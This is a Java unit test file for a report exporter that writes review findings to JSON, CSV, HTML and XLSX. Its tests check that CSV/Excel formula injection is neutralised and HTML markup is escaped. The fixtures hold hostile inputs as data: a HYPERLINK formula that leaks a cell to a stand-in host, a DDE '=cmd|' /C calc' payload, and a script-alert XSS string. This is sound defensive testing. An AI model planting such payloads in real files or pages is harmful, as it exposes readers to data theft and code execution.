package jp.advisor.review;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import tools.jackson.databind.MappingIterator;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

import jp.advisor.evaluation.Evaluation.Finding;
import jp.advisor.pages.ReportFormat;

class ReportFormatTest {

    private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    /** The report's columns as docs/contract.md names them, spelled out so the test does not read them from the code. */
    private static final List<String> HEADER = List.of("source", "organization", "fiscalYear", "strategy", "severity",
            "code", "location", "message_ja", "message_en", "cells", "rule", "submissionId", "disposition",
            "disposition_ja", "disposition_comment", "disposition_by", "disposition_at");

    static final String HYPERLINK = "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"詳細\")";

    /** Cells a submission's author could make Excel evaluate: every formula starter OWASP lists. */
    static final ReviewReport FORMULAS = new ReviewReport("v", "p",
            List.of(new ReviewReport.ReviewedSubmission(HYPERLINK, "+81-6", "-1", List.of(new Finding("@SUM(A1)",
                    "warning", "strategies/1-1", new jp.advisor.evaluation.Evaluation.Explanation("\t=1+1", "\r=1+1"),
                    Map.of(), "review.x")))),
            List.of(new ReviewReport.UnreadableSource(HYPERLINK, List.of("=cmd|' /C calc'!A0"))));

    static byte[] written(ReportFormat format, ReviewReport report) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        report.write(format, out);
        return out.toByteArray();
    }

    @Test
    void formats_are_named_by_their_file_extension_in_any_case() {
        assertThat(ReviewReport.format("json")).isEqualTo(ReportFormat.JSON);
        assertThat(ReviewReport.format(" XLSX ")).isEqualTo(ReportFormat.XLSX);
        assertThat(ReportFormat.HTML.extension()).isEqualTo("html");
        assertThat(ReportFormat.CSV.mediaType()).startsWith("text/csv");
        assertThatThrownBy(() -> ReviewReport.format("pdf")).isInstanceOf(IllegalArgumentException.class);
    }

    /** A stored submission's two findings, the second decided on as a false positive with a comment in markup. */
    static final ReviewReport DISPOSED = new ReviewReport("v", "p", List.of(new ReviewReport.ReviewedSubmission(
            "/api/submissions/42", 42L, "中央区", "令和6年度", List.of(SampleReports.CHUO_ERROR, SampleReports.CHUO_INFO),
            Map.of(1, new ReviewReport.Disposition("FALSE_POSITIVE", "誤検知", "<b>数値</b>の読み違い", "reviewer",
                    OffsetDateTime.parse("2026-04-01T09:00Z"))))), List.of());

    @Test
    void a_stored_findings_disposition_is_in_every_format_and_only_on_that_finding() throws IOException {
        List<ReportRows.Row> rows = ReportRows.rows(DISPOSED);
        assertThat(rows.get(0).values().subList(11, 17)).containsExactly("42", "", "", "", "", "");
        assertThat(rows.get(1).values().subList(11, 17)).containsExactly("42", "FALSE_POSITIVE", "誤検知",
                "<b>数値</b>の読み違い", "reviewer", "2026-04-01T09:00Z");

        assertThat(JsonMapper.builder().build().readValue(written(ReportFormat.JSON, DISPOSED), ReviewReport.class))
                .isEqualTo(DISPOSED);

        String html = new String(written(ReportFormat.HTML, DISPOSED), StandardCharsets.UTF_8);
        assertThat(html).containsSubsequence("OUTCOME_CONTRADICTS_RESULT", "TARGET_DIFFERS_BETWEEN_SHEETS", "誤検知",
                "FALSE_POSITIVE", "reviewer", "&lt;b&gt;数値&lt;/b&gt;の読み違い").doesNotContain("<b>数値");
        assertThat(html.indexOf("誤検知")).isEqualTo(html.lastIndexOf("誤検知"));
    }

    @Nested
    class Json {

        @Test
        void the_report_reads_back_as_the_same_report() throws IOException {
            byte[] json = written(ReportFormat.JSON, SampleReports.report());

            ReviewReport back = JsonMapper.builder().build().readValue(json, ReviewReport.class);

            assertThat(back).isEqualTo(SampleReports.report());
        }

        @Test
        void it_is_indented_utf8_with_japanese_as_characters() throws IOException {
            String json = new String(written(ReportFormat.JSON, SampleReports.report()), StandardCharsets.UTF_8);

            assertThat(json).contains("\n  \"rulesVersion\" : \"sha256:abc123\"").contains("全体がAですが、個別1がBです。");
        }
    }

    @Nested
    class Csv {

        @Test
        void it_starts_with_a_bom_so_excel_reads_utf8() throws IOException {
            byte[] csv = written(ReportFormat.CSV, SampleReports.report());

            assertThat(Arrays.copyOf(csv, 3)).isEqualTo(BOM);
        }

        @Test
        void it_has_a_header_then_one_row_per_finding_then_the_unreadable_sources() throws IOException {
            List<Map<String, String>> rows = read(written(ReportFormat.CSV, SampleReports.report()));

            assertThat(rows).hasSize(SampleReports.ALL_FINDINGS.size() + 1);
            assertThat(rows.get(0).keySet()).containsExactlyElementsOf(HEADER);
            assertThat(rows).extracting(r -> r.get("code")).containsExactly("COUNT_TARGET_TALKS_ONLY",
                    "OVERALL_A_WITH_INDIVIDUAL_B", "ISSUE_EMPTY_WITH_B", "OVERALL_A_WITH_INDIVIDUAL_B",
                    "ACHIEVEMENT_CONTRADICTS_RESULT", "OUTCOME_CONTRADICTS_RESULT", "TARGET_DIFFERS_BETWEEN_SHEETS",
                    "UNREADABLE_SUBMISSION");
            assertThat(rows.get(2)).containsEntry("source", "kita-r6.json").containsEntry("organization", "北区")
                    .containsEntry("fiscalYear", "令和6年度").containsEntry("strategy", "7-10@1-(2)-ア")
                    .containsEntry("severity", "warning").containsEntry("location", "strategies/7-10@1-(2)-ア/progress")
                    .containsEntry("message_ja", SampleReports.SCRIPT_MESSAGE)
                    .containsEntry("cells", "課題=" + SampleReports.SCRIPT + "; 改善策=")
                    .containsEntry("rule", "review.issue_empty_with_b");
            assertThat(rows.get(7)).containsEntry("source", "minato-r6.xlsx").containsEntry("severity", "error")
                    .containsEntry("message_ja", "シート「戦略」が見つかりません; fiscal year is missing");
        }

        @Test
        void commas_quotes_and_line_breaks_in_a_value_survive() throws IOException {
            String awkward = "目標, \"100%\"\n実績 98%";
            ReviewReport report = new ReviewReport("v", "p", List.of(), List.of(
                    new ReviewReport.UnreadableSource("a,b.xlsx", List.of(awkward))));

            List<Map<String, String>> rows = read(written(ReportFormat.CSV, report));

            assertThat(rows.get(0)).containsEntry("source", "a,b.xlsx").containsEntry("message_ja", awkward);
        }

        @Test
        void a_value_a_spreadsheet_would_take_for_a_formula_starts_with_a_quote() throws IOException {
            String csv = new String(written(ReportFormat.CSV, FORMULAS), StandardCharsets.UTF_8);
            List<Map<String, String>> rows = read(written(ReportFormat.CSV, FORMULAS));

            assertThat(csv).contains("\r\n\"'=HYPERLINK(", ",'+81-6,'-1,");
            assertThat(rows.get(0)).containsEntry("source", "'" + HYPERLINK).containsEntry("organization", "'+81-6")
                    .containsEntry("fiscalYear", "'-1").containsEntry("code", "'@SUM(A1)")
                    .containsEntry("message_ja", "'\t=1+1").containsEntry("message_en", "'\r=1+1")
                    .containsEntry("location", "strategies/1-1");
            assertThat(rows.get(1)).containsEntry("source", "'" + HYPERLINK).containsEntry("message_ja", "'=cmd|' /C calc'!A0");
        }

        @Test
        void an_empty_report_still_has_its_header() throws IOException {
            String csv = new String(written(ReportFormat.CSV, SampleReports.empty()), StandardCharsets.UTF_8);

            assertThat(csv).isEqualTo("\uFEFFsource,organization,fiscalYear,strategy,severity,code,location,message_ja,message_en,"
                    + "cells,rule,submissionId,disposition,disposition_ja,disposition_comment,disposition_by,disposition_at\r\n");
        }

        private static List<Map<String, String>> read(byte[] csv) {
            String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
            try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerFor(Map.class)
                    .with(CsvSchema.emptySchema().withHeader()).readValues(text)) {
                return rows.readAll();
            }
        }
    }

    @Nested
    class Html {

        private final String html = render(SampleReports.report());

        @Test
        void it_is_a_standalone_japanese_page() {
            assertThat(html).startsWith("<!DOCTYPE html>").contains("<html lang=\"ja\">")
                    .contains("<meta charset=\"utf-8\">").contains("自己評価の点検結果")
                    .doesNotContain("<link").doesNotContain("src=").doesNotContain("http");
        }

        @Test
        void it_names_the_rule_set_and_counts_each_code_by_severity() {
            assertThat(html).contains("sha256:abc123").contains("trajectory").contains("<table class=\"counts\">")
                    // code, error, warning, info, total
                    .contains("<td><code>OVERALL_A_WITH_INDIVIDUAL_B</code></td><td class=\"n\">0</td>"
                            + "<td class=\"n\">2</td><td class=\"n\">0</td><td class=\"n\">2</td>")
                    .contains("<tr><th>合計 <small>total</small></th><td class=\"n\">3</td><td class=\"n\">3</td>"
                            + "<td class=\"n\">2</td><td class=\"n\">8</td>");
        }

        @Test
        void every_finding_shows_its_code_and_messages() {
            for (Finding f : SampleReports.ALL_FINDINGS) {
                if (f == SampleReports.KITA_SCRIPT) {
                    continue; // its markup is checked as escaped text below
                }
                assertThat(html).contains(f.code()).contains(f.message().ja()).contains(f.message().en());
            }
            assertThat(html).contains("課題欄が&lt;script&gt;alert(1)&lt;/script&gt;です &amp; 改善策が空欄です")
                    .contains("The issue cell holds markup &amp; the remedy is empty.");
            assertThat(html).contains("<td>実績</td><td>98%</td>");
        }

        @Test
        void submitted_text_is_escaped_never_markup() {
            assertThat(html).contains("&lt;script&gt;alert(1)&lt;/script&gt;").contains(" &amp; 改善策")
                    .doesNotContain("<script").doesNotContain("<script>alert");
        }

        @Test
        void findings_are_grouped_by_organisation_then_strategy_then_severity() {
            assertThat(html).containsSubsequence("北区", "中央区");
            assertThat(html).containsSubsequence("<code>7-1</code>", "<code>7-2</code>", "<code>7-10@1-(2)-ア</code>");
            // Within 7-1: error, warning, info, whatever order the report listed them in.
            assertThat(html).containsSubsequence("<code>7-1</code>", "ACHIEVEMENT_CONTRADICTS_RESULT",
                    "OVERALL_A_WITH_INDIVIDUAL_B", "COUNT_TARGET_TALKS_ONLY", "<code>7-2</code>");
            assertThat(html).containsSubsequence("中央区", "<code>1-1</code>", "OUTCOME_CONTRADICTS_RESULT",
                    "TARGET_DIFFERS_BETWEEN_SHEETS");
        }

        @Test
        void unreadable_files_are_listed_with_why() {
            assertThat(html).containsSubsequence("読めなかったファイル", "minato-r6.xlsx", "シート「戦略」が見つかりません",
                    "fiscal year is missing");
        }

        @Test
        void an_organisation_without_findings_says_so() {
            assertThat(render(SampleReports.empty())).contains("指摘はありません").doesNotContain("class=\"unreadable\"");
        }

        private static String render(ReviewReport report) {
            try {
                return new String(written(ReportFormat.HTML, report), StandardCharsets.UTF_8);
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    @Nested
    class Xlsx {

        private final DataFormatter formatter = new DataFormatter();

        @Test
        void it_has_the_findings_the_counts_and_the_unreadable_files() throws IOException {
            try (XSSFWorkbook workbook = read(SampleReports.report())) {
                assertThat(IntStream.range(0, workbook.getNumberOfSheets()).mapToObj(workbook::getSheetName))
                        .containsExactly("指摘", "件数", "読めないファイル");
            }
        }

        @Test
        void the_findings_sheet_has_the_csv_columns_under_a_bold_frozen_filterable_header() throws IOException {
            try (XSSFWorkbook workbook = read(SampleReports.report())) {
                Sheet sheet = workbook.getSheet("指摘");

                assertThat(values(sheet.getRow(0))).containsExactlyElementsOf(HEADER);
                assertThat(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
                assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
                assertThat(workbook.getSheetAt(0).getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:Q9");
                assertThat(sheet.getLastRowNum()).isEqualTo(8);
                assertThat(values(sheet.getRow(5))).containsExactly("kita-r6.json", "北区", "令和6年度", "7-1", "error",
                        "ACHIEVEMENT_CONTRADICTS_RESULT", "strategies/7-1/initiatives/7-1-2/achievement",
                        "実績98%は目標100%に届かないのに①です。", "Rated ① although 98% misses the 100% target.",
                        "目標=100%; 実績=98%; 自己評価=①", "review.achievement_contradicts_result", "", "", "", "", "",
                        "");
                assertThat(values(sheet.getRow(8))).startsWith("minato-r6.xlsx", "", "", "", "error", "UNREADABLE_SUBMISSION");
            }
        }

        @Test
        void the_counts_sheet_counts_each_code_by_severity() throws IOException {
            try (XSSFWorkbook workbook = read(SampleReports.report())) {
                Sheet sheet = workbook.getSheet("件数");

                assertThat(values(sheet.getRow(0))).containsExactly("code", "error", "warning", "info", "total");
                List<List<String>> rows = IntStream.rangeClosed(1, sheet.getLastRowNum())
                        .mapToObj(i -> values(sheet.getRow(i))).toList();
                assertThat(rows).contains(List.of("OVERALL_A_WITH_INDIVIDUAL_B", "0", "2", "0", "2"),
                        List.of("UNREADABLE_SUBMISSION", "1", "0", "0", "1"));
                assertThat(rows.get(rows.size() - 1)).containsExactly("total", "3", "3", "2", "8");
            }
        }

        @Test
        void each_problem_of_an_unreadable_file_has_its_row() throws IOException {
            try (XSSFWorkbook workbook = read(SampleReports.report())) {
                Sheet sheet = workbook.getSheet("読めないファイル");

                assertThat(values(sheet.getRow(1))).containsExactly("minato-r6.xlsx", "シート「戦略」が見つかりません");
                assertThat(values(sheet.getRow(2))).containsExactly("minato-r6.xlsx", "fiscal year is missing");
            }
        }

        @Test
        void text_that_looks_like_a_formula_is_written_as_a_string_cell_never_a_formula() throws IOException {
            try (XSSFWorkbook workbook = read(FORMULAS)) {
                Row row = workbook.getSheet("指摘").getRow(1);
                Row unreadable = workbook.getSheet("読めないファイル").getRow(1);

                assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
                assertThat(row.getCell(0).getStringCellValue()).isEqualTo(HYPERLINK);
                assertThat(values(row)).startsWith(HYPERLINK, "+81-6", "-1");
                assertThat(IntStream.range(0, row.getLastCellNum()).mapToObj(row::getCell))
                        .allSatisfy(cell -> assertThat(cell.getCellType()).isEqualTo(CellType.STRING));
                assertThat(unreadable.getCell(1).getCellType()).isEqualTo(CellType.STRING);
                assertThat(unreadable.getCell(1).getStringCellValue()).isEqualTo("=cmd|' /C calc'!A0");
            }
        }

        @Test
        void without_unreadable_files_there_is_no_sheet_for_them() throws IOException {
            try (XSSFWorkbook workbook = read(SampleReports.empty())) {
                assertThat(workbook.getNumberOfSheets()).isEqualTo(2);
                assertThat(workbook.getSheet("指摘").getLastRowNum()).isZero();
            }
        }

        private static XSSFWorkbook read(ReviewReport report) throws IOException {
            return new XSSFWorkbook(new ByteArrayInputStream(written(ReportFormat.XLSX, report)));
        }

        private List<String> values(Row row) {
            return IntStream.range(0, row.getLastCellNum()).mapToObj(i -> formatter.formatCellValue(row.getCell(i)))
                    .toList();
        }
    }
}
